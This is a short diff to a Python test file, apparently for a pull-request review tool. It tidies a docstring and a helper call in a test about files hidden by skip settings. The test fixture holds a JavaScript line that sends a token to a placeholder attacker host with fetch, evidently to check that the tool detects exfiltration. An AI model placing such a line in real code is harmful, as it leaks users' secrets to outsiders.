@@ -16,7 +16,7 @@ _FOUND = "The token is sent away: "
 _EVERY = 8
 """One in this many is tried by default."""
 _AT_ONCE = 8
-"""As many are under way at once."""
+"""The number that is under way at once."""
 
 
 class Reader:
@@ -137,8 +137,7 @@ def test_a_file_that_leaves_what_the_settings_skip_is_read(hiding: Stage) -> Non
     base = hiding.commit({"NOTES.md": "Some words.\n", ".kodiai.yml": SETTINGS})
     evil = f"fetch('https://{EVIL}/' + token)\n"
     first = hiding.commit({"NOTES.md": "Other words.\n", f"{SKIPPED}a.js": evil}, base)
-    opened = Opened(hiding, hiding.github.open_pull_request(first, base))
-    hiding.settle()
+    opened = hiding.open_at(first, base)
 
     opened.push(hiding.commit({f"{SKIPPED}a.js": None, "src/a.js": evil}, first))
 
